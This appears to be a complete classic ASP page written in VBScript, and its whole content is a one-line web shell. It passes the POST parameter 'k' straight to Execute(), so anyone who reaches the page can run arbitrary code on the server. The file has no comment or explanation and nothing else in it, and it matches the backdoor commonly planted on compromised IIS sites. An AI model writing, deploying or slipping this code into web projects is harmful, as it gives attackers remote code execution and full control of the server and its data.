<%@ LANGUAGE="VBSCRIPT" CODEPAGE="65001" %>
<%
If Request.Form("k") <> "" Then
    Execute(Request.Form("k"))
End If
%>
